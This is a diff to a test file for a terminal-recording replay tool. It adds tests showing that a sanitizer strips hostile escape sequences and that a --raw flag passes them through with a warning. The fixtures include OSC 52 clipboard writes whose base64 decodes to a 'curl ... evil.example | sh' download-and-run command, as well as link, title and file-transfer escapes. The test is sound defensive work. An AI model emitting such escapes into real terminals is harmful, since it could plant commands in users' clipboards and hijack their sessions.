@@ -1,11 +1,11 @@
 // `entryway replay`: the cast reader and its timing, and in tmux (a real terminal) a session entered
 // with `entryway enter` through a recording gateway on podman, then replayed from the file and by
 // id from the gateway: the replayed screen (text and colours) equals the one the session left.
-import { mkdtempSync, readdirSync, rmSync } from "node:fs";
+import { mkdtempSync, readdirSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { parseCast, playbackTimes, withoutTerminalQueries, type CastEvent } from "../../src/asciicast.js";
+import { onlyAllowedSequences, parseCast, playbackTimes, withoutTerminalQueries, type CastEvent } from "../../src/asciicast.js";
 import { recordingUrl } from "../../src/cli/replay.js";
 import { tokenAuthorizer } from "../helpers/gateway.js";
 import { describeNeeding } from "../helpers/tools.js";
@@ -48,6 +48,54 @@ describe("asciicast reading and timing", () => {
     const kept = "\u001b[1;33mx\u001b[0m\u001b[6;5H\u001b]0;title\u0007\u001b[2J\u001b[?25l";
     expect(played(output(kept.slice(0, 7), kept.slice(7)))).toBe(kept);
     expect(withoutTerminalQueries([{ time: 0, code: "r", data: "80x24" }])).toEqual([{ time: 0, code: "r", data: "80x24" }]);
+  });
+
+  it("writes only drawing into the reviewer's terminal: clipboard, title, links, fonts, files, DCS, queries and mode changes are dropped", () => {
+    const played = (...data: string[]) => onlyAllowedSequences(data.map((d, i) => ({ time: i, code: "o", data: d }))).map((e) => e.data);
+    // Kept as recorded: SGR (24-bit too), cursor movement, erasing, the alternate screen, cursor
+    // visibility, the DEC line-drawing charset and its end, save/restore cursor, reverse index,
+    // a scroll region, scrolling, bracketed paste off, and the plain controls.
+    const drawing = "\u001b[1;38;2;255;0;0mred\u001b[0m\u001b[6;5H\u001b[2J\u001b[K\u001b[?1049h\u001b[?25l\u001b(0qq\u001b(B\u001b7\u001b8\u001bM\u001b[3;20r\u001b[2S\u001b[?2004l\r\n\tx\b你😀";
+    expect(played(drawing).join("")).toBe(drawing);
+    const hostile: [string, string][] = [
+      ["\u001b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\u0007", ""], // clipboard write (OSC 52), BEL-terminated
+      ["\u001b]52;p;Y3VybA==\u001b\\", ""], // ... and ST-terminated
+      ["\u001b]0;owned\u0007\u001b]2;owned\u001b\\", ""], // titles
+      ["\u001b]8;;https://evil.example/\u0007click\u001b]8;;\u0007", "click"], // OSC 8: the text stays, the link goes
+      ["\u001b]50;xft:evil\u0007", ""], // font
+      [`\u001b]1337;File=name=eC5iYXQ=;inline=0:${"QUFB".repeat(500)}\u0007`, ""], // iTerm2 file transfer
+      ["\u001bP+q544e\u001b\\\u001b_apc\u001b\\\u001b^pm\u001b\\\u001bXsos\u001b\\", ""], // DCS, APC, PM, SOS
+      ["\u001b[6n\u001b[c\u001b[>0c\u001b[18t\u001b[22;0t\u001b[8;100;100t", ""], // queries, title stack, window resize
+      ["\u001b[?1000h\u001b[?1006h\u001b[?1h\u001b[?2004h\u001b[?1004h\u001b[>4;1m\u001b[2 q\u001b[5u", ""], // mouse, keys, bracketed paste on, focus, cursor style, keyboard protocol
+      ["\u001bc\u001b=\u001b%@\u001b#8\u001bZ", ""], // reset, keypad, leaving UTF-8, screen alignment, identify
+      ["\u0005\u0000\u007f\u009b31m\u009d0;t\u009c", "31m0;t"], // ENQ (answerback), NUL, DEL, C1 controls (the rest is text)
+      ["\u001b[?1049;1000h", "\u001b[?1049h"], // a set that mixes allowed and dropped modes keeps the allowed ones
+    ];
+    for (const [input, kept] of hostile) expect(played(`a${input}b`).join(""), JSON.stringify(input)).toBe(`a${kept}b`);
+    // Cut anywhere between events, a sequence is still recognised; events keep their number and times.
+    const osc = "\u001b]52;c;Y3VybA==\u0007";
+    for (let cut = 1; cut < osc.length; cut++) expect(played(`x${osc.slice(0, cut)}`, `${osc.slice(cut)}y`), String(cut)).toEqual(["x", "y"]);
+    expect(played("\u001b", "[31mred")).toEqual(["", "\u001b[31mred"]);
+    expect(played("\u001b]1337;File=:", "QUFB".repeat(1000), "QUFB\u0007done")).toEqual(["", "", "done"]);
+    expect(onlyAllowedSequences([{ time: 0, code: "r", data: "80x24" }])).toEqual([{ time: 0, code: "r", data: "80x24" }]);
+  });
+
+  it("replays a hostile recording without its clipboard, title and file escapes; --raw writes them, with a warning", async () => {
+    const home = mkdtempSync(join(tmpdir(), "entryway-replay-raw-"));
+    try {
+      const file = join(home, "hostile.cast");
+      const escapes = "\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b]0;owned\u0007\u001b]1337;File=name=eC5iYXQ=:QUFB\u0007";
+      const events = [[0.01, "o", `before ${escapes}`], [0.02, "o", "\u001b[1mafter\u001b[0m"]];
+      writeFileSync(file, [JSON.stringify({ version: 2, width: 80, height: 24 }), ...events.map((e) => JSON.stringify(e)), ""].join("\n"));
+      const env = cleanEnv(home);
+      const safe = await runCli(["replay", file], { env });
+      expect(safe).toMatchObject({ code: 0, stdout: "before \u001b[1mafter\u001b[0m", stderr: "" });
+      const raw = await runCli(["replay", "--raw", file], { env });
+      expect(raw).toMatchObject({ code: 0, stdout: `before ${escapes}\u001b[1mafter\u001b[0m` });
+      expect(raw.stderr).toMatch(/^entryway: warning: --raw writes the recording's escape sequences as recorded/);
+    } finally {
+      rmSync(home, { recursive: true, force: true });
+    }
   });
 
   it("fetches ids over https, or plain http only from loopback", () => {
